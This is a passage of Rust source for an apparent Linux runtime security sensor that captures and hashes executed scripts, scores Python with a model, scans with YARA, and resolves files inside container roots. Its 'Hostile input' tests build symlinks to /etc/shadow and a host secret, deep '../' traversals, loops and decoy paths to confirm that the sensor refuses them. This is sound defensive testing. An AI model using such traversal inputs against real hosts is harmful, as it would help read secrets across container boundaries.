                    if !candidates.iter().any(|(c, _)| *c == p) {
                        candidates.push((p, false));
                    }
                }
            }
        }
        if let Some(i) = shell_script_arg(&exe.path, &raw.argv) {
            let bytes = raw
                .argv_bytes
                .get(i)
                .map_or(raw.argv[i].as_bytes(), Vec::as_slice);
            if let Some(p) = resolve(bytes, cwd) {
                if !candidates.iter().any(|(c, _)| *c == p) {
                    candidates.push((p, false));
                }
            }
        }
        if candidates.is_empty() {
            return None;
        }
        // A Python interpreter's script is kept as far as the model scores it, when the sensor
        // has the model; the event still carries `script_capture_bytes` of it.
        let capture = self.config.script_capture_bytes;
        let python = python_exe && self.config.python.is_some();
        let keep = if python {
            capture.max(PYTHON_SCORED_MAX)
        } else {
            capture
        };
        let mut read_any = false;
        for (path, must_be_shebang) in candidates {
            for (root, dir) in roots.get() {
                let Ok(mut file) = open_in_root_fd(dir, root, &path) else {
                    continue;
                };
                read_any = true;
                if must_be_shebang {
                    // `/bin/true` asked for and `/usr/bin/true` run is one file through a
                    // symlink, not a script: a script is another file, and starts with `#!`.
                    let mut magic = [0u8; 2];
                    let same = file.metadata().is_ok_and(|m| m.ino() == exe.ino);
                    if same || file.read_exact(&mut magic).is_err() || &magic != b"#!" {
                        break;
                    }
                    if std::io::Seek::rewind(&mut file).is_err() {
                        continue;
                    }
                }
                // The end is kept only for a Python script past the bound (its size as it
                // stands now: one that grows past it while read goes without).
                let past = file
                    .metadata()
                    .is_ok_and(|m| m.len() > PYTHON_SCORED_MAX as u64);
                let tail = if python && past {
                    PYTHON_SCORED_BYTES
                } else {
                    0
                };
                let Ok(ScriptRead {
                    sha256: sha,
                    size,
                    mut head,
                    tail,
                }) = read_script(&mut file, self.config.max_hash_bytes, keep, tail)
                else {
                    continue;
                };
                self.stats.scripts_captured += 1;
                let (yara, yara_error) = self.scan_script(&mut file, sha.as_deref());
                let python = if python && head.len() > capture {
                    // Past what is kept of its start, the end is scored too: code appended
                    // after a long run of padding would be out of sight of the start alone.
                    // (The end is empty for a script the start holds whole, and when a file
                    // too large to hash had its end read apart and that read failed: its start
                    // alone is scored then.)
                    self.score_python(&head, Some(&tail), size, sha.as_deref())
                } else {
                    None
                };
                head.truncate(capture);
                return Some(Box::new(CapturedFile {
                    path: Some(path.to_string_lossy().into_owned()),
                    contents: String::from_utf8_lossy(&head).into_owned(),
                    size,
                    sha256: sha,
                    truncated: size > head.len() as u64,
                    yara,
                    yara_error,
                    python,
                }));
            }
        }
        if !read_any {
            self.stats.script_failures += 1;
        }
        None
    }

    /// The Python model's verdict on a script of `size` bytes longer than the capture, from
    /// `text`, its start (all of a script up to [`PYTHON_SCORED_MAX`]), and `tail`, the last
    /// [`PYTHON_SCORED_BYTES`] of a longer one, as
    /// [`shrike_core::event::score_python_windows`] scores them: in windows, each on its own
    /// (the highest score is the verdict), the whole script when start and end hold all of it.
    /// Kept by the script's SHA-256. The reasons are worked
    /// out only for a score at or above the model's threshold, as the detector does, and only
    /// for the window that scored highest.
    fn score_python(
        &mut self,
        text: &[u8],
        tail: Option<&[u8]>,
        size: u64,
        sha256: Option<&str>,
    ) -> Option<RecordedScore> {
        let scorer = &self.config.python.as_ref()?.0;
        if let Some(known) = sha256.and_then(|h| self.python_verdicts.get(h)) {
            return Some(known.clone());
        }
        let started = std::time::Instant::now();
        let (second, spent) = &mut self.python_spent;
        if started.duration_since(*second) >= std::time::Duration::from_secs(1) {
            (*second, *spent) = (started, std::time::Duration::ZERO);
        }
        if *spent >= self.config.python_budget {
            self.stats.python_over_budget += 1;
            return None;
        }
        let scored = shrike_core::event::score_python_windows(text, tail, size, &**scorer);
        let reasons = if scored.score >= scorer.threshold() {
            scorer.explain_interpreted(&scored.best).reasons
        } else {
            String::new()
        };
        let recorded = scored.recorded(scorer.model_name().to_owned(), reasons);
        self.stats.python_scored += 1;
        self.python_spent.1 += started.elapsed();
        if let Some(h) = sha256 {
            let cap = self.config.hash_cache_entries;
            insert_bounded(
                &mut self.python_verdicts,
                cap,
                h.to_owned(),
                recorded.clone(),
            );
        }
        Some(recorded)
    }

    /// Scans a captured script, the whole file, with the YARA rules (counted with the
    /// executables' scans). A verdict is kept by the script's SHA-256, so a script run again and
    /// again (a health check, a cron job) is scanned once; failures are not kept.
    fn scan_script(
        &mut self,
        file: &mut File,
        sha256: Option<&str>,
    ) -> (Vec<YaraMatch>, Option<String>) {
        let Some(scanner) = &self.config.yara else {
            return (Vec::new(), None);
        };
        if let Some(found) = sha256.and_then(|h| self.script_verdicts.get(h)) {
            return (found.clone(), None);
        }
        let result = std::io::Seek::rewind(file)
            .map_err(|e| format!("reading for the YARA scan: {e}"))
            .and_then(|()| scanner.scan(file));
        match result {
            Ok(found) => {
                self.stats.yara_scanned += 1;
                self.stats.yara_matched += u64::from(!found.is_empty());
                if let Some(h) = sha256 {
                    let cap = self.config.hash_cache_entries;
                    insert_bounded(&mut self.script_verdicts, cap, h.to_owned(), found.clone());
                }
                (found, None)
            }
            Err(e) => {
                self.stats.yara_failures += 1;
                tracing::warn!(error = %e, "script not scanned with the YARA rules");
                (Vec::new(), Some(e))
            }
        }
    }

    fn cgroup_path(&mut self, id: u64, pid: u32) -> Option<String> {
        if let Some(p) = self.cgroups.get(&id) {
            return Some(p.clone());
        }
        let text = read_bounded(&self.proc(pid, "cgroup"), 64 * 1024).ok()?;
        let text = String::from_utf8_lossy(&text);
        let path = text.lines().find_map(|l| l.strip_prefix("0::"))?.to_owned();
        // cgroup v2 id 1 is the root on hybrid hosts: every host process shares it, and their
        // v1 paths differ, so only real v2 cgroups are cached.
        if id > 1 {
            insert_bounded(&mut self.cgroups, 1 << 16, id, path.clone());
        }
        Some(path)
    }

    fn container(&mut self, cgroup_path: &str) -> Option<Arc<RuntimeState>> {
        let identity = ContainerIdentity::from_cgroup_path(cgroup_path)?;
        if let Some(state) = self.containers.get(&identity.id) {
            if state.init_pid.is_some() {
                return Some(Arc::clone(state));
            }
        }
        let state = Arc::new(metadata::lookup(&self.config.host_root, &identity));
        insert_bounded(&mut self.containers, 4096, identity.id, Arc::clone(&state));
        Some(state)
    }

    /// The allow-listed variables, and whether anything was cut: the environment past
    /// [`ENVIRON_BYTES`], or a value past [`ENV_VALUE_CHARS`]. A value that is not UTF-8 is kept,
    /// lossily; when a name appears twice the first counts, as for `getenv(3)`.
    fn env(&self, pid: u32) -> (BTreeMap<String, String>, bool) {
        let Ok(raw) = read_bounded(&self.proc(pid, "environ"), ENVIRON_BYTES as u64 + 1) else {
            return (BTreeMap::new(), false);
        };
        let mut truncated = raw.len() > ENVIRON_BYTES;
        let mut env = BTreeMap::new();
        for kv in raw[..raw.len().min(ENVIRON_BYTES)].split(|&b| b == 0) {
            let Some(eq) = kv.iter().position(|&b| b == b'=') else {
                continue;
            };
            let Ok(name) = std::str::from_utf8(&kv[..eq]) else {
                continue;
            };
            if !ENV_ALLOW_LIST.contains(&name) || env.contains_key(name) {
                continue;
            }
            let value = String::from_utf8_lossy(&kv[eq + 1..]);
            let mut chars = value.chars();
            let kept: String = chars.by_ref().take(ENV_VALUE_CHARS).collect();
            truncated |= chars.next().is_some();
            env.insert(name.to_owned(), kept);
        }
        (env, truncated)
    }
}

/// A kernel fd record as the event model's [`Stdio`].
pub fn stdio(fd: &RawFd) -> Stdio {
    let kind = match fd.kind {
        1 => FdKind::None,
        2 => FdKind::File,
        3 => FdKind::Pipe,
        5 => FdKind::Socket,
        6 => {
            // Character devices: ttys by major number (4: tty/ttyS, 5: tty/console/ptmx,
            // 136–143: pseudo-terminals).
            let major = fd.rdev >> 20;
            if matches!(major, 4 | 5 | 136..=143) {
                FdKind::Tty
            } else {
                FdKind::Other
            }
        }
        _ => FdKind::Unknown,
    };
    let path = (fd.kind == 6 && fd.rdev == (1 << 20 | 3)).then(|| "/dev/null".to_owned());
    let socket = (kind == FdKind::Socket).then(|| {
        let family = match fd.family {
            2 => SocketFamily::Inet,
            10 => SocketFamily::Inet6,
            1 => SocketFamily::Unix,
            16 => SocketFamily::Netlink,
            _ => SocketFamily::Other,
        };
        let (local_ip, remote_ip) = fd.addrs().map_or((None, None), |(l, r)| (Some(l), Some(r)));
        Box::new(SocketInfo {
            family,
            protocol: match fd.protocol {
                6 => Protocol::Tcp,
                17 => Protocol::Udp,
                _ => Protocol::Other,
            },
            local_ip,
            local_port: fd.local_port,
            remote_ip,
            remote_port: fd.remote_port,
        })
    });
    Stdio {
        kind,
        path,
        ino: (fd.ino != 0).then_some(fd.ino),
        socket,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kernel_dev_numbers_become_stat_numbers() {
        // 8:1 (sda1) and 0:45 (an overlay mount).
        assert_eq!(user_dev(8 << 20 | 1), 0x801);
        assert_eq!(user_dev(45), 45);
        assert_eq!(user_dev(259 << 20 | 300), nix::sys::stat::makedev(259, 300));
    }

    #[test]
    fn ttys_sockets_and_dev_null() {
        let pts = RawFd {
            kind: 6,
            rdev: 136 << 20 | 3,
            ..RawFd::default()
        };
        assert_eq!(stdio(&pts).kind, FdKind::Tty);
        let null = RawFd {
            kind: 6,
            rdev: 1 << 20 | 3,
            ..RawFd::default()
        };
        assert_eq!(
            (stdio(&null).kind, stdio(&null).path.as_deref()),
            (FdKind::Other, Some("/dev/null"))
        );
        let mut sock = RawFd {
            kind: 5,
            family: 10,
            protocol: 6,
            local_port: 1,
            remote_port: 2,
            ..RawFd::default()
        };
        sock.remote_addr[15] = 1;
        let s = stdio(&sock);
        let info = s.socket.unwrap();
        assert_eq!(info.remote_ip.unwrap().to_string(), "::1");
        assert!(info.is_connected());
        assert_eq!(info.protocol, Protocol::Tcp);
    }

    #[test]
    fn hashes_a_file_that_matches_the_kernel_identity_and_refuses_another() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("tool");
        std::fs::write(&path, b"#!/bin/true\n").unwrap();
        let meta = std::fs::metadata(&path).unwrap();
        let enricher = Enricher::new(EnrichConfig::default());
        let exe = Executable {
            ino: meta.ino(),
            dev: meta.dev(),
            size: meta.len(),
            ..Executable::default()
        };
        let hash = enricher.hash_verified(&path, &exe).unwrap();
        assert_eq!(hash, hex::encode(Sha256::digest(b"#!/bin/true\n")));
        let other = Executable {
            ino: meta.ino() + 1,
            ..exe
        };
        assert!(enricher
            .hash_verified(&path, &other)
            .unwrap_err()
            .contains("no longer"));
    }

    #[test]
    fn fifos_and_devices_are_refused_without_blocking() {
        let dir = tempfile::tempdir().unwrap();
        let fifo = dir.path().join("pipe");
        nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
        // Would block forever on a plain open for reading: no writer.
        assert!(open_regular(&fifo).is_err());
        assert!(open_regular(Path::new("/dev/zero")).is_err());
        assert!(open_regular(Path::new("/etc/hostname")).is_ok());
    }

    #[test]
    fn hashing_is_bounded() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("big");
        std::fs::write(&path, vec![0u8; 4096]).unwrap();
        let mut f = File::open(&path).unwrap();
        assert!(sha256_file(&mut f, 1000).is_err());
        let mut f = File::open(&path).unwrap();
        assert_eq!(sha256_file(&mut f, 4096).unwrap().1, 4096);
    }

    // --- Hostile input (docs/reliability.md, "Hostile input") ---------------------------------

    use crate::raw::EXEC_PATH_COMPLETE;
    use std::os::unix::fs::symlink;

    const CONTAINER_ID: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    fn write(path: &Path, bytes: &[u8]) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }

    /// The errno an error (with the path added to its message) carries.
    fn errno(e: &std::io::Error) -> Option<i32> {
        let text = e.to_string();
        let at = text.rfind("(os error ")? + "(os error ".len();
        text[at..].trim_end_matches(')').parse().ok()
    }

    /// A fake `/proc` and host root: process `pid` runs `/usr/bin/python3` with `argv`; with
    /// `container`, its cgroup is a Docker container's; with `root`, it has a root of its own
    /// (`proc/PID/root`), else it is gone.
    struct FakeHost {
        dir: tempfile::TempDir,
        pid: u32,
    }

    impl FakeHost {
        fn new(pid: u32, container: bool, root: bool) -> Self {
            let dir = tempfile::tempdir().unwrap();
            let proc = dir.path().join("proc").join(pid.to_string());
            std::fs::create_dir_all(dir.path().join("host")).unwrap();
            let cgroup = if container {
                format!("0::/docker/{CONTAINER_ID}\n")
            } else {
                "0::/user.slice\n".to_owned()
            };
            write(&proc.join("cgroup"), cgroup.as_bytes());
            if root {
                std::fs::create_dir_all(proc.join("root")).unwrap();
            }
            Self { dir, pid }
        }
        fn host(&self) -> PathBuf {
            self.dir.path().join("host")
        }
        fn root(&self) -> PathBuf {
            self.proc().join("root")
        }
        fn proc(&self) -> PathBuf {
            self.dir.path().join("proc").join(self.pid.to_string())
        }
        fn enricher(&self) -> Enricher {
            Enricher::new(EnrichConfig {
                proc_root: self.dir.path().join("proc"),
                host_root: self.host(),
                ..EnrichConfig::default()
            })
        }
        fn exec(&self, filename: &[u8], argv: &[&[u8]]) -> RawExec {
            RawExec {
                pid: self.pid,
                cgroup_id: 5,
                flags: EXEC_PATH_COMPLETE,
                exe_path: Some("/usr/bin/python3".into()),
                exe_path_bytes: b"/usr/bin/python3".to_vec(),
                exe_ino: 1,
                filename: String::from_utf8_lossy(filename).into_owned(),
                filename_bytes: filename.to_vec(),
                argv: argv
                    .iter()
                    .map(|a| String::from_utf8_lossy(a).into_owned())
                    .collect(),
                argv_bytes: argv.iter().map(|a| a.to_vec()).collect(),
                ..RawExec::default()
            }
        }
    }

    #[test]
    fn a_shell_is_told_its_script_file_from_its_options() {
        let argv = |a: &[&str]| a.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
        let at = |exe: &str, a: &[&str]| shell_script_arg(exe, &argv(a));
        assert_eq!(at("/bin/dash", &["sh", "/tmp/x.sh", "arg"]), Some(1));
        assert_eq!(at("/usr/bin/bash", &["bash", "-ex", "run.sh"]), Some(2));
        assert_eq!(
            at(
                "/usr/bin/bash",
                &["bash", "--norc", "-o", "pipefail", "run.sh"]
            ),
            Some(4)
        );
        assert_eq!(
            at("/usr/bin/bash", &["bash", "--", "-odd-name.sh"]),
            Some(2)
        );
        assert_eq!(at("/bin/dash", &["sh", "-c", "echo hi", "x.sh"]), None);
        assert_eq!(at("/bin/dash", &["sh", "-ec", "echo hi"]), None);
        assert_eq!(at("/bin/dash", &["sh", "-s", "x"]), None);
        assert_eq!(at("/bin/dash", &["sh", "-i"]), None);
        assert_eq!(at("/bin/dash", &["sh"]), None);
        assert_eq!(at("/bin/dash", &["-sh"]), None);
        assert_eq!(at("/bin/busybox", &["sh", "/tmp/x"]), Some(1));
        assert_eq!(at("/bin/busybox", &["busybox", "sh", "/tmp/x"]), Some(2));
        assert_eq!(at("/bin/busybox", &["busybox", "ls", "/tmp"]), None);
        assert_eq!(at("/bin/busybox", &["ls", "/tmp"]), None);
        assert_eq!(at("/usr/bin/python3", &["python3", "x.py"]), None);
        assert_eq!(at("/usr/bin/zsh", &["zsh", "x.zsh"]), None);
    }

    #[test]
    fn library_loads_are_named_and_hashed_through_the_memory_map_or_the_root() {
        use std::os::unix::fs::MetadataExt;
        let host = FakeHost::new(4242, false, true);
        let lib_dir = tempfile::tempdir().unwrap();
        let lib = lib_dir.path().join("libx.so");
        write(&lib, b"\x7fELF a shared library");
        let meta = std::fs::metadata(&lib).unwrap();
        let sha = hex::encode(Sha256::digest(b"\x7fELF a shared library"));
        // The kernel read the path only up to its mount ("/libx.so"); the memory map has it
        // whole, unlinked, and map_files opens the very file.
        write(
            &host.proc().join("maps"),
            format!(
                "7f00-7f10 r--p 00000000 08:01 {}      /usr/lib/other.so\n7f10-7f20 r-xp 00001000 08:01 {}      /opt/app/libx.so (deleted)\n",
                meta.ino() + 1,
                meta.ino()
            )
            .as_bytes(),
        );
        std::fs::create_dir_all(host.proc().join("map_files")).unwrap();
        symlink(&lib, host.proc().join("map_files").join("7f10-7f20")).unwrap();
        let raw = RawLibrary {
            pid: host.pid,
            layer: 2,
            ino: meta.ino(),
            size: meta.len(),
            path: Some("/libx.so".into()),
            path_bytes: b"/libx.so".to_vec(),
            ..RawLibrary::default()
        };
        let mut enricher = host.enricher();
        let event = enricher.library(&raw);
        assert_eq!(event.pid, 4242);
        assert_eq!(event.library.path, "/opt/app/libx.so");
        assert_eq!(event.library.layer, Layer::Upper);
        assert_eq!(event.library.sha256.as_deref(), Some(sha.as_str()));
        assert!(event.library.hash_error.is_none());
        // The same file again: from the cache.
        let again = enricher.library(&raw);
        assert_eq!(again.library.sha256.as_deref(), Some(sha.as_str()));
        assert_eq!(enricher.stats().hash_cache_hits, 1);

        // A process gone before it was read: a whole kernel path is looked up in the root (the
        // host's here), and only the same inode is hashed.
        std::fs::remove_file(host.proc().join("maps")).unwrap();
        let in_root = host.host().join("opt/app/libx.so");
        std::fs::create_dir_all(in_root.parent().unwrap()).unwrap();
        std::fs::hard_link(&lib, &in_root).unwrap();
        let gone = RawLibrary {
            flags: EXEC_PATH_COMPLETE,
            mtime_ns: 1,
            path: Some("/opt/app/libx.so".into()),
            path_bytes: b"/opt/app/libx.so".to_vec(),
            ..raw.clone()
        };
        let event = host.enricher().library(&gone);
        assert_eq!(event.library.path, "/opt/app/libx.so");
        assert_eq!(event.library.sha256.as_deref(), Some(sha.as_str()));
        let other = RawLibrary {
            ino: meta.ino() + 7,
            ..gone
        };
        let event = host.enricher().library(&other);
        assert!(event.library.sha256.is_none());
        assert!(
            event
                .library
                .hash_error
                .as_deref()
                .unwrap()
                .contains("no longer"),
            "{:?}",
            event.library.hash_error
        );
    }

    #[test]
    fn open_in_root_keeps_links_and_dotdot_inside_the_root() {
        let dir = tempfile::tempdir().unwrap();
        let host_secret = dir.path().join("host-secret");
        write(&host_secret, b"HOST");
        let root = dir.path().join("root");
        write(&root.join("etc/shadow"), b"CONTAINER");
        symlink("/etc/shadow", root.join("abs")).unwrap();
        symlink(&host_secret, root.join("to-host")).unwrap();
        let up = "../".repeat(40);
        symlink(
            format!("{up}{}", host_secret.display()),
            root.join("dotdot"),
        )
        .unwrap();
        symlink("loop-b", root.join("loop-a")).unwrap();
        symlink("loop-a", root.join("loop-b")).unwrap();
        symlink("/loop-a", root.join("loop-abs")).unwrap();
        std::fs::create_dir_all(root.join("dir")).unwrap();

        let read = |path: &str| -> std::io::Result<String> {
            let mut text = String::new();
            open_in_root(&root, Path::new(path))?.read_to_string(&mut text)?;
            Ok(text)
        };
        // An absolute link resolves in the root: the container's file, not the host's.
        assert_eq!(read("/abs").unwrap(), "CONTAINER");
        assert_eq!(read("abs").unwrap(), "CONTAINER");
        // Links to a host path, and `..` past the root, find nothing rather than the host file.
        for path in [
            "/to-host",
            "/dotdot",
            &format!("/{up}{}", host_secret.display()),
        ] {
            let e = read(path).unwrap_err();
            assert_eq!(errno(&e), Some(2), "{path}: {e}");
        }
        // A loop ends at once in ELOOP, naming the path and the root.
        for path in ["/loop-a", "/loop-abs"] {
            let started = std::time::Instant::now();
            let e = read(path).unwrap_err();
            assert_eq!(errno(&e), Some(40), "{path}: {e}");
            assert!(e.to_string().contains(path), "{e}");
            assert!(started.elapsed() < std::time::Duration::from_secs(1));
        }
        // Directories and devices are refused.
        assert!(read("/dir")
            .unwrap_err()
            .to_string()
            .contains("not a regular file"));
        // Magic links are refused even in the host's own root: through a container's procfs
        // `/proc/self/root` would be the sensor's root.
        let e =
            open_in_root(Path::new("/"), Path::new("/proc/self/root/etc/hostname")).unwrap_err();
        assert_eq!(errno(&e), Some(40), "{e}");
        assert!(open_in_root(Path::new("/"), Path::new("/etc/hostname")).is_ok());
    }

    #[test]
    fn a_container_script_linked_to_a_host_path_is_read_in_the_container_or_not_at_all() {
        let fake = FakeHost::new(4242, true, true);
        // The host has a file at the link's target; the container has its own there.
        write(&fake.host().join("srv/run.py"), b"print('HOST')\n");
        write(&fake.root().join("srv/run.py"), b"print('container')\n");
        symlink("/srv/run.py", fake.root().join("run.py")).unwrap();
        symlink("../../../../../../srv/run.py", fake.root().join("up.py")).unwrap();
        let mut enricher = fake.enricher();
        for script in [&b"/run.py"[..], b"/up.py"] {
            let event = enricher.exec(&fake.exec(b"/usr/bin/python3", &[b"python3", script]));
            let captured = event.script.expect("captured in the container");
            assert_eq!(captured.contents, "print('container')\n");
            assert_eq!(event.container.unwrap().id, CONTAINER_ID);
        }
        // Without the container's copy, nothing is captured: never the host's file.
        std::fs::remove_file(fake.root().join("srv/run.py")).unwrap();
        let event = enricher.exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"/run.py"]));
        assert!(event.script.is_none(), "{:?}", event.script);
        // A loop is a failure to read, counted, not a hang.
        symlink("loop", fake.root().join("loop")).unwrap();
        let failures = enricher.stats().script_failures;
        let event = enricher.exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"/loop"]));
        assert!(event.script.is_none());
        assert_eq!(enricher.stats().script_failures, failures + 1);
    }

    #[test]
    fn a_container_process_that_is_gone_is_never_looked_up_on_the_host() {
        // The process has exited (no root) and its container's init is unknown: the host has a
        // file at the same path, with a `#!` line, and it must not be read nor hashed.
        let fake = FakeHost::new(4243, true, false);
        write(&fake.host().join("app/job.sh"), b"#!/bin/sh\necho host\n");
        write(&fake.host().join("usr/bin/python3"), b"host python");
        let mut enricher = fake.enricher();
        let mut raw = fake.exec(b"/app/job.sh", &[b"/bin/sh", b"/app/job.sh"]);
        (raw.exe_path, raw.exe_path_bytes) = (Some("/bin/sh".into()), b"/bin/sh".to_vec());
        let event = enricher.exec(&raw);
        assert!(event.script.is_none(), "{:?}", event.script);
        assert_eq!(enricher.stats().script_failures, 1);
        let meta = std::fs::metadata(fake.host().join("usr/bin/python3")).unwrap();
        let mut raw = fake.exec(b"/usr/bin/python3", &[b"python3"]);
        (raw.exe_ino, raw.exe_size) = (meta.ino(), meta.len());
        let event = enricher.exec(&raw);
        assert!(event.exe.sha256.is_none());
        assert!(event.exe.hash_error.is_some());
        // The same process outside any container is looked up on the host.
        let host = FakeHost::new(4244, false, false);
        write(&host.host().join("app/job.sh"), b"#!/bin/sh\necho host\n");
        let mut raw = host.exec(b"/app/job.sh", &[b"/bin/sh", b"/app/job.sh"]);
        (raw.exe_path, raw.exe_path_bytes) = (Some("/bin/sh".into()), b"/bin/sh".to_vec());
        let event = host.enricher().exec(&raw);
        assert_eq!(event.script.unwrap().contents, "#!/bin/sh\necho host\n");
    }

    #[test]
    fn a_container_init_pid_reused_outside_the_container_is_not_its_root() {
        let fake = FakeHost::new(4245, true, false);
        // The runtime's state names init pid 4246, which is now a host process.
        let state = fake
            .host()
            .join("run/runc")
            .join(CONTAINER_ID)
            .join("state.json");
        write(&state, br#"{"init_process_pid":4246}"#);
        let init = fake.dir.path().join("proc/4246");
        write(&init.join("cgroup"), b"0::/user.slice\n");
        write(&init.join("root/app/run.py"), b"print('host process')\n");
        let mut enricher = fake.enricher();
        let event = enricher.exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"/app/run.py"]));
        assert!(event.script.is_none(), "{:?}", event.script);
        // While 4246 is the container's init, its root is the container's.
        write(
            &init.join("cgroup"),
            format!("0::/docker/{CONTAINER_ID}\n").as_bytes(),
        );
        let event = enricher.exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"/app/run.py"]));
        assert_eq!(event.script.unwrap().contents, "print('host process')\n");
    }

    #[test]
    fn script_names_that_are_not_utf8_open_by_their_bytes() {
        let fake = FakeHost::new(77, false, false);
        write(&fake.host().join("work/\u{e9}\u{e9}.py"), b"print(1)\n");
        let name = b"work/\xff.py";
        write(
            &fake.host().join(OsStr::from_bytes(name)),
            b"# caf\xe9 in latin-1\nprint(2)\n",
        );
        symlink("/work", fake.proc().join("cwd")).unwrap();
        let event = fake
            .enricher()
            .exec(&fake.exec(b"/usr/bin/python3", &[b"python3", b"\xff.py", b"\xfe"]));
        assert_eq!(event.argv, vec!["python3", "\u{fffd}.py", "\u{fffd}"]);
        let captured = event.script.expect("captured by the name's bytes");
        assert_eq!(captured.path.as_deref(), Some("/work/\u{fffd}.py"));
        assert_eq!(captured.contents, "# caf\u{fffd} in latin-1\nprint(2)\n");
        assert_eq!(
            captured.sha256.unwrap(),
            hex::encode(Sha256::digest(b"# caf\xe9 in latin-1\nprint(2)\n"))
        );
    }

    #[test]
    fn an_exited_process_executable_is_hashed_by_its_path_bytes_or_its_absence_reported() {
        let fake = FakeHost::new(81, false, false);
        let name = b"opt/\xff-tool";
        let tool = fake.host().join(OsStr::from_bytes(name));
        write(&tool, b"\x7fELF tool");
        let meta = std::fs::metadata(&tool).unwrap();
        let mut raw = fake.exec(b"/opt/\xff-tool", &[b"\xff-tool"]);
        raw.exe_path = Some("/opt/\u{fffd}-tool".into());
        raw.exe_path_bytes = b"/opt/\xff-tool".to_vec();
        (raw.exe_ino, raw.exe_size) = (meta.ino(), meta.len());
        let mut enricher = fake.enricher();
        let event = enricher.exec(&raw);
        assert_eq!(event.exe.path, "/opt/\u{fffd}-tool");
        assert_eq!(
            event.exe.sha256.as_deref(),
            Some(hex::encode(Sha256::digest(b"\x7fELF tool")).as_str())
        );
        assert_eq!(enricher.stats().hashed_after_exit, 1);
        // Gone before it could be hashed: no hash, and the reason names the path.
        std::fs::remove_file(&tool).unwrap();
        raw.exe_mtime_ns += 1;
        let event = enricher.exec(&raw);
        assert!(event.exe.sha256.is_none());
        let why = event.exe.hash_error.unwrap();
        assert!(why.contains("-tool") && why.contains("os error 2"), "{why}");
        // Replaced by another file at the same path: refused, never the other file's hash.
        write(&tool, b"\x7fELF other");
        raw.exe_mtime_ns += 1;
        let event = enricher.exec(&raw);
        assert!(event.exe.sha256.is_none());
        assert!(event
            .exe
            .hash_error
            .unwrap()
            .contains("no longer the executed file"));
    }

    #[test]
    fn executables_are_scanned_with_yara_rules_once_per_file_identity() {
        /// Matches files holding `EVIL-MARK`; refuses files over 64 bytes.
        #[derive(Debug)]
        struct Marker;
        impl ContentScanner for Marker {
            fn scan(&self, file: &mut dyn Read) -> Result<Vec<YaraMatch>, String> {
                let mut data = Vec::new();
                file.read_to_end(&mut data).map_err(|e| e.to_string())?;
                if data.len() > 64 {
                    return Err(format!(
                        "{} bytes is over the YARA scan limit of 64 bytes",
                        data.len()
                    ));
                }
                Ok(data
                    .windows(9)
                    .any(|w| w == b"EVIL-MARK")
                    .then(|| YaraMatch {
                        rule: "marked".into(),
                        file: "rules/t.yar".into(),
                        tags: vec!["t".into()],
                    })
                    .into_iter()
                    .collect())
            }
        }
        let fake = FakeHost::new(82, false, false);
        let mut enricher = Enricher::new(EnrichConfig {
            proc_root: fake.dir.path().join("proc"),
            host_root: fake.host(),
            yara: Some(Arc::new(Marker)),
            ..EnrichConfig::default()
        });
        let run = |enricher: &mut Enricher, name: &str, body: &[u8]| {
            let tool = fake.host().join("opt").join(name);
            write(&tool, body);
            let meta = std::fs::metadata(&tool).unwrap();
            let path = format!("/opt/{name}");
            let mut raw = fake.exec(path.as_bytes(), &[path.as_bytes()]);
            raw.exe_path = Some(path.clone());
            raw.exe_path_bytes = path.into_bytes();
            (raw.exe_ino, raw.exe_size) = (meta.ino(), meta.len());
            enricher.exec(&raw)
        };
        let event = run(&mut enricher, "evil", b"\x7fELF..EVIL-MARK..");
        assert_eq!(
            event.exe.yara,
            [YaraMatch {
                rule: "marked".into(),
                file: "rules/t.yar".into(),
                tags: vec!["t".into()],
            }]
        );
        assert!(event.exe.yara_error.is_none() && event.exe.sha256.is_some());
        // Again: from the cache, with the same verdict.
        let again = run(&mut enricher, "evil", b"\x7fELF..EVIL-MARK..");
        assert_eq!(again.exe.yara, event.exe.yara);
        let clean = run(&mut enricher, "clean", b"\x7fELF..nothing..");
        assert!(clean.exe.yara.is_empty() && clean.exe.yara_error.is_none());
        // Over the scan limit: hashed, not scanned, and said so.
        let big = run(&mut enricher, "big", &[b'A'; 100]);
        assert!(big.exe.sha256.is_some() && big.exe.yara.is_empty());
        let why = big.exe.yara_error.unwrap();
        assert!(
            why.contains("over the YARA scan limit of 64 bytes"),
            "{why}"
        );
        let stats = enricher.stats();
        assert_eq!(
            (
                stats.yara_scanned,
                stats.yara_matched,
                stats.yara_failures,
                stats.hash_cache_hits
            ),
            (2, 1, 1, 1)
        );
        // A `#!` script: scanned whole once; run again, its verdict comes from its hash.
        write(
            &fake.host().join("app/drop.sh"),
            b"#!/bin/sh\n# EVIL-MARK\n",
        );
        let mut raw = fake.exec(b"/app/drop.sh", &[b"/bin/sh", b"/app/drop.sh"]);
        (raw.exe_path, raw.exe_path_bytes) = (Some("/bin/sh".into()), b"/bin/sh".to_vec());
        for _ in 0..2 {
            let script = enricher.exec(&raw).script.expect("captured");
            assert_eq!(script.yara.len(), 1, "{script:?}");
            assert_eq!(script.yara[0].rule, "marked");
            assert!(script.yara_error.is_none());
        }
        assert_eq!(enricher.stats().yara_scanned, 3, "scanned once");
        write(&fake.host().join("app/ok.sh"), b"#!/bin/sh\nexit 0\n");
        let mut raw = fake.exec(b"/app/ok.sh", &[b"/bin/sh", b"/app/ok.sh"]);
        (raw.exe_path, raw.exe_path_bytes) = (Some("/bin/sh".into()), b"/bin/sh".to_vec());
        let script = enricher.exec(&raw).script.expect("captured");
        assert!(script.yara.is_empty() && script.yara_error.is_none());
    }

    #[test]
    fn a_cut_filename_is_opened_only_when_an_argument_holds_it_whole() {
        use crate::raw::layout::PATH_MAX;
        let fake = FakeHost::new(78, false, false);
        let long = format!("/{}job.sh", format!("{}/", "d".repeat(100)).repeat(3));
        assert!(long.len() > PATH_MAX);
        write(&fake.host().join(&long[1..]), b"#!/bin/sh\necho real\n");
        // The kernel's field holds PATH_MAX - 1 bytes; a file at that prefix is a decoy.
        let cut = &long.as_bytes()[..PATH_MAX - 1];
